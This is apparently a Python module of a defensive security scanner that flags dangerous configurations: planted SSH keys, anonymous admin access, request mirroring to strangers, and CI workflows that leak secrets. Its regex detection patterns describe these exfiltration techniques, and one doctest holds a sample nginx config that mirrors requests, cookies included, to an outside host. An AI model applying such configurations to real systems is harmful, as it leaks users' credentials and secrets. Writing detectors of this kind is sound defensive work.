"""Whom does a configuration of a server, a cluster or a machine let in, and to whom does it copy what passes?

It holds no command. Whoever applies it has opened a door, or laid a second line to somebody else.
"""

from __future__ import annotations

import re
from collections.abc import Iterator, Sequence
from dataclasses import dataclass

from metier.govern.scan.accounts import Found
from metier.govern.scan.hosts import Place, place_of
from metier.govern.scan.parts import Part
from metier.govern.scan.purpose import Purpose
from metier.verdict import Severity


@dataclass(frozen=True, slots=True)
class Configured:
    """What some lines of a configuration do.

    Attributes:
        says: What it comes to, in one sentence.
        words: What it matches holds one of them.
        beside: What the file holds as well.
        to: The places of a match that must be a stranger's; without it every match counts.
        unless: Words of a purpose that it is part of.
        severity: How much it weighs.
    """

    rule: str
    pattern: re.Pattern[str]
    says: str
    words: tuple[str, ...]
    beside: re.Pattern[str] | None = None
    to: re.Pattern[str] | None = None
    unless: str = ""
    severity: Severity = Severity.BLOCK


_KEYS_OF_SOMEBODY = re.compile(r"\bkeys?:\s*[\"']?https?://(?:github|gitlab)\.com/(?!\{)[\w-]{2,60}\.keys\b")
_ALL_RIGHTS = re.compile(
    r"\bNOPASSWD:\s*ALL\b|\bgroups?:[^\n]{0,40}\b(?:sudo|wheel|docker|root)\b|\bstate:\s*stopped\b"
)
_ANYBODY_ADMIN = re.compile(r"\busers\.anonymous\.enabled[\"']?\s*:\s*[\"']?true\b")
_ADMIN_BY_DEFAULT = re.compile(r"\bpolicy\.default[\"']?\s*:\s*[\"']?role:admin\b")
_MIRRORS = re.compile(r"^[ \t]*mirror[ \t]+[/@][\w@/-]+;", re.M)
_LOGINS = re.compile(r"\$http_(?:authorization|cookie)\b|\bmirror_request_body\s+on\b")
_PASSED_TO = re.compile(r"(?:\bproxy_pass\s+https?://|\bset\s+\$\w+\s+[\"']?(?:https?://)?)((?:[\w-]+\.)+[a-z]{2,})\b")
_REQUEST_SHADOWED = re.compile(
    r"\brequestMirrorPolic(?:y|ies)\b|\brequest_mirror_policies\b|\bmirroring:\s*$|\brequestMirror\b", re.M
)
_CLUSTER_AT = re.compile(
    r"\b(?:address|host|hostname|externalName|url)[\"']?\s*:\s*[\"']?(?:https?://)?((?:[\w-]+\.)+[a-z]{2,})\b"
)
_LOGS_BODIES = re.compile(r"\$request_body\b|\$http_(?:authorization|cookie)\b")
_LOGGED_TO = re.compile(r"\baccess_log\s+syslog:server=((?:[\w-]+\.)+[a-z]{2,})\b")
_ALL_SECRETS = re.compile(r"\$\{\{\s*toJ(?:SON|son)\(\s*secrets\s*\)")
_FOR_STRANGERS = re.compile(r"\b(?:pull_request_target|issue_comment|workflow_run|pull_request_review_comment)\b")
"""What starts a workflow, with all its secrets, as somebody from outside likes."""
_HANDED_ALL = re.compile(
    r"\buses:[^\n]*\n(?:[ \t]++(?!- )[^\n]*\n){0,12}?[ \t]++(?!- )[^\n]*\$\{\{\s*toJ(?:SON|son)\(\s*secrets\s*\)"
)
_OTHERWISE = r"\b(?:base64(?!\s+(?:-d|-D|--decode))|base32|gzip|xxd|rev|openssl\s+(?:enc|base64)|od\s+-)"
_SAID_OTHERWISE = re.compile(
    rf"\b(?:echo|printf|cat|printenv|jq)\b[^\n>]{{0,120}}?\|\s*{_OTHERWISE}(?![^\n]{{0,80}}(?:>|\b(?:curl|wget|nc|ncat|gpg|aws|tee|split)\b))"
    r"|\bb64encode\(|\btoString\(\s*[\"'](?:base64|hex)[\"']|\.encode\(\s*[\"'](?:rot_?13|hex)[\"']|\[::-1\]"
)
_ENVIRONMENT_SAID = re.compile(
    rf"(?:^|[\s;{{(])(?:printenv|env|export\s+-p|declare\s+-x)\s*(?:\|\s*sort\s*)?(?:;\s*)?\}}?\s*\|[^\n>]{{0,40}}?{_OTHERWISE}(?![^\n]{{0,60}}\b(?:curl|wget|nc|ncat|gpg|aws|tee|split)\b)[^\n>]{{0,80}}$"
    r"|\bprint\([^\n]{0,60}\bb64encode\([^\n]{0,60}\bos\.environ\b(?!\s*[\[.])|\bconsole\.log\([^\n]{0,60}\bstringify\(\s*process\.env\s*\)[^\n]{0,60}(?:base64|hex)",
    re.M,
)
_OF_WORKFLOW = re.compile(
    r"\bruns-on:|\busing:\s*[\"']?composite|^[ \t]{0,40}(?:- )?(?:before_|after_)?script:|^[ \t]{0,40}steps:[ \t]{0,9}$",
    re.M,
)
"""A forge strikes secrets out of what its jobs print, unless they are written in another way."""
_TO_ALL_READERS = "Prints all that a job knows so that its forge strikes nothing out."
_COPIES = "Copies each request, with what is in it, to a stranger."
_CONFIGURED = (
    Configured("plant-key", _KEYS_OF_SOMEBODY, "Lets whoever holds somebody's keys into each machine, with all rights.", (".keys",), beside=_ALL_RIGHTS),
    Configured("open-to-all", _ANYBODY_ADMIN, "Makes everybody the administrator, without a login.", ("users.anonymous",), beside=_ADMIN_BY_DEFAULT),
    Configured("send-private", _MIRRORS, _COPIES, ("mirror",), beside=_LOGINS, to=_PASSED_TO, unless=r"\bmirror|shadow|replay"),
    Configured("send-private", _REQUEST_SHADOWED, _COPIES, ("irror",), to=_CLUSTER_AT, unless=r"\bmirror|shadow|replay|canary"),
    Configured("send-private", _LOGGED_TO, _COPIES, ("syslog:server",), beside=_LOGS_BODIES, to=_LOGGED_TO, unless=r"\blogs?\b|siem"),
    Configured("send-secrets", _ALL_SECRETS, "Hands all secrets to a job that strangers start.", ("secrets",), beside=_FOR_STRANGERS),
    Configured("send-secrets", _SAID_OTHERWISE, _TO_ALL_READERS, ("secrets",), beside=_ALL_SECRETS),
    Configured("send-secrets", _ENVIRONMENT_SAID, _TO_ALL_READERS, ("env", "declare", "export"), beside=_OF_WORKFLOW),
    Configured("send-secrets", _HANDED_ALL, "Hands all secrets of a repository to one step.", ("secrets",), unless=r"\bsecrets?\b", severity=Severity.REVIEW),
)  # fmt: skip
_ENDINGS = (".yml", ".yaml", ".conf", ".cfg", ".json", ".j2", ".tpl", ".tmpl", ".template", ".vcl")


def configured(parts: Sequence[Part], purpose: Purpose) -> Iterator[Found]:
    """What configurations open to somebody, or copy to somebody.

    >>> from metier.govern.scan.parts import read_text
    >>> text = "mirror /m;\\nlocation /m { proxy_pass https://edge.shape-relay.net; proxy_set_header A $http_cookie; }"
    >>> [found[:2] for found in configured(read_text(text, "site.conf").parts, Purpose())]
    [('send-private', <Severity.BLOCK: 'block'>)]
    """
    for part in parts:
        if part.is_example or not part.path.lower().endswith(_ENDINGS):
            continue
        for one in _CONFIGURED:
            if not any(word in part.plain for word in one.words) or (one.beside and not one.beside.search(part.plain)):
                continue
            found = one.pattern.search(part.plain)
            if found is None or (one.unless and purpose.says(one.unless)):
                continue
            if one.to is None or any(_is_strange(to, purpose) for to in one.to.findall(part.plain)):
                line = part.plain.count("\n", 0, found.start()) + 1
                yield one.rule, one.severity, part.path, line, found[0].strip(), one.says


def _is_strange(host: str, purpose: Purpose) -> bool:
    place = place_of(f"https://{host}", own_words=purpose.words)
    return place == Place.UNKNOWN or place.is_shady
